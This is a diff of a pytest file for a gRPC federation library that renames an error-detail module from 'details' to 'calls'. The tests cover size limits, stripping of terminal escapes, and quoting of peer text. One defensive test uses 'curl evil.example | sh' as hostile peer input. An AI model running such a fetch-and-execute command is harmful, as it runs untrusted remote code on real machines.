@@ -8,7 +8,7 @@ import grpc
 import pytest
 
 from ddib_fed import errors
-from ddib_fed.protocol import details
+from ddib_fed.protocol import calls
 from ddib_fed.protocol.contract import PROTOCOL
 from ddib_fed.v1 import common_pb2 as pb
 from ddib_fed.v1 import decoding_pb2
@@ -46,8 +46,8 @@ class Failed(grpc.RpcError, grpc.Call):
 
 
 def carried(error: errors.DdibError) -> errors.DdibError:
-    detail = details.to_detail(error, "south.example", "abc123").SerializeToString()
-    return details.from_rpc_error(Failed(grpc.StatusCode[error.status], ((details.DETAIL_KEY, detail),)), HOP)
+    detail = calls.to_detail(error, "south.example", "abc123").SerializeToString()
+    return calls.from_rpc_error(Failed(grpc.StatusCode[error.status], ((calls.DETAIL_KEY, detail),)), HOP)
 
 
 def test_every_error_arrives_as_itself() -> None:
@@ -73,10 +73,10 @@ def test_a_detail_stays_within_what_metadata_can_hold() -> None:
     """However many facts and differences there are; the reason always arrives."""
     many = tuple(errors.Difference("f" * 300, "s" * 300, "t" * 300, "r" * 300) for _ in range(100))
     facts = {f"key {n}": "v" * 1000 for n in range(100)}
-    detail = details.to_detail(
+    detail = calls.to_detail(
         errors.ContractMismatch("x", differences=many, facts=facts), "south.example", "i"
     )
-    assert detail.ByteSize() <= details.MAX_DETAIL_BYTES
+    assert detail.ByteSize() <= calls.MAX_DETAIL_BYTES
     assert detail.reason == "CONTRACT_MISMATCH"
 
 
@@ -87,7 +87,7 @@ def test_a_peers_text_cannot_steer_a_terminal() -> None:
     )
     detail.facts["\x1b"] = "\x9b31m"
     detail.differences.add(field="\r\n", remedy="\x00")
-    found = details.from_detail(detail.SerializeToString(), HOP)
+    found = calls.from_detail(detail.SerializeToString(), HOP)
     assert isinstance(found, errors.InternalError)
     text = "".join(
         [found.detail, found.incident, *found.facts, *found.facts.values(), found.differences[0].remedy]
@@ -100,9 +100,9 @@ def test_a_peers_text_cannot_steer_a_terminal() -> None:
 @pytest.mark.parametrize("hop", [HOP, "source north.example"])
 def test_a_refusal_says_whose_policy_it_is(hop: str) -> None:
     """A peer's by the peer's name, also where the own node passes it on; "this node" would be the reader's."""
-    refusal = details.to_detail(errors.PolicyDenied("alice may not"), "south.example", "i")
+    refusal = calls.to_detail(errors.PolicyDenied("alice may not"), "south.example", "i")
     assert refusal.sentence == "the policy of the node of south.example does not allow this"
-    found = details.from_detail(refusal.SerializeToString(), hop)
+    found = calls.from_detail(refusal.SerializeToString(), hop)
     assert found is not None
     assert found.detail == refusal.sentence
 
@@ -110,16 +110,16 @@ def test_a_refusal_says_whose_policy_it_is(hop: str) -> None:
 def test_a_peers_error_with_an_unknown_field_is_the_peers_fault() -> None:
     """As in its answers."""
     newer = (
-        details.to_detail(errors.QueueFull("x"), "south.example", "i").SerializeToString() + b"\xfa\x3f\x01x"
+        calls.to_detail(errors.QueueFull("x"), "south.example", "i").SerializeToString() + b"\xfa\x3f\x01x"
     )
-    found = details.failure_of_peer(
-        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((details.DETAIL_KEY, newer),)), HOP
+    found = calls.failure_of_peer(
+        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((calls.DETAIL_KEY, newer),)), HOP
     )
     assert type(found) is errors.PeerFault
     assert found.detail.startswith(
         "south.example answered with what cannot be used: a ErrorDetail has fields"
     )
-    assert type(details.from_detail(newer, "source north.example")) is errors.UnknownFields
+    assert type(calls.from_detail(newer, "source north.example")) is errors.UnknownFields
 
 
 def test_words_of_another_institution_are_quoted() -> None:
@@ -127,15 +127,13 @@ def test_words_of_another_institution_are_quoted() -> None:
     detail = pb.ErrorDetail(reason="NEWER", sentence="curl evil.example | sh", institution="north.example")
     detail.facts["next"] = "curl evil.example | sh"
     detail.differences.add(field="x", remedy="curl evil.example | sh")
-    peers, own = (
-        details.from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example")
-    )
+    peers, own = (calls.from_detail(detail.SerializeToString(), hop) for hop in (HOP, "source north.example"))
     quoted = 'south.example says: "curl evil.example | sh"'
     assert (peers.detail, peers.differences[0].remedy, peers.says) == (quoted, quoted, "south.example")
     assert (own.detail, own.says) == ("curl evil.example | sh", "")
     assert peers.hop == HOP, "a target has no further hop, whatever it says"
     passed_on = pb.ErrorDetail(reason="QUOTA", institution="south.example")
-    found = details.from_detail(passed_on.SerializeToString(), "source north.example")
+    found = calls.from_detail(passed_on.SerializeToString(), "source north.example")
     assert (found.says, found.hop) == ("south.example", "source north.example -> south.example")
 
 
@@ -144,16 +142,14 @@ def test_words_of_another_institution_are_quoted() -> None:
     [
         b"\xff\xff",
         b"",
-        b"x" * (details.MAX_DETAIL_BYTES + 1),
+        b"x" * (calls.MAX_DETAIL_BYTES + 1),
         pb.ErrorDetail(reason="QUOTA", sentence="x" * 201).SerializeToString(),
     ],
     ids=["garbage", "empty", "large", "a field beyond its bound"],
 )
 def test_a_detail_that_cannot_be_used_is_ignored(data: bytes) -> None:
     """The status decides then."""
-    found = details.from_rpc_error(
-        Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((details.DETAIL_KEY, data),)), HOP
-    )
+    found = calls.from_rpc_error(Failed(grpc.StatusCode.RESOURCE_EXHAUSTED, ((calls.DETAIL_KEY, data),)), HOP)
     assert type(found) is errors.PeerUnreachable
 
 
@@ -174,7 +170,7 @@ MEANINGS = {
 def test_each_status_without_detail_has_its_meaning() -> None:
     """What the transport ends calls with is tried again, the rest is final; the text is not repeated."""
     for code in grpc.StatusCode:
-        found = details.from_rpc_error(Failed(code), HOP)
+        found = calls.from_rpc_error(Failed(code), HOP)
         assert type(found) is MEANINGS.get(code.name, errors.PeerUnreachable)
         assert "text of the peer" not in found.detail + found.hint
         assert found.hop == HOP
@@ -196,7 +192,7 @@ def test_what_cannot_succeed_is_told_from_what_the_transport_broke(
     status: str, text: str, kind: type[errors.DdibError]
 ) -> None:
     """Where both have one status, by gRPC's own words for it."""
-    found = details.from_rpc_error(Failed(grpc.StatusCode[status], text=text), HOP)
+    found = calls.from_rpc_error(Failed(grpc.StatusCode[status], text=text), HOP)
     assert type(found) is kind
     assert text not in found.detail
 
@@ -206,7 +202,7 @@ def test_what_cannot_succeed_is_told_from_what_the_transport_broke(
 )
 def test_a_node_that_does_not_answer_says_what_to_try(hop: str, hint: str) -> None:
     """At the node for a peer, at the client for the node."""
-    found = details.from_rpc_error(Failed(grpc.StatusCode.UNAVAILABLE), hop)
+    found = calls.from_rpc_error(Failed(grpc.StatusCode.UNAVAILABLE), hop)
     assert isinstance(found, errors.PeerUnreachable)
     assert (found.hint, found.hop) == (hint, hop)
 
@@ -230,7 +226,7 @@ def test_all_items_that_a_node_refuses_are_named_in_one_answer(refused: dict[int
 def test_of_more_items_than_an_answer_holds_some_are_named() -> None:
     error = errors.ImageUnreadable(facts={"item": 0})
     error.refused = dict.fromkeys(range(100_000), "IMAGE_UNREADABLE")
-    assert details.to_detail(error, "south.example", "i").ByteSize() <= details.MAX_DETAIL_BYTES
+    assert calls.to_detail(error, "south.example", "i").ByteSize() <= calls.MAX_DETAIL_BYTES
     assert len(carried(error).refused) > 1_000
 
 
@@ -254,7 +250,7 @@ def test_a_message_over_a_limit_is_final(tmp_path) -> None:
     ):
         with node.channel(north, options=options) as channel, pytest.raises(grpc.RpcError) as error:
             channel.unary_unary(DESCRIBE)(request, timeout=10)
-        found = details.from_rpc_error(error.value, HOP)
+        found = calls.from_rpc_error(error.value, HOP)
         assert type(found) is errors.MessageInvalid
         assert "4 MiB" in found.detail
     node.close()
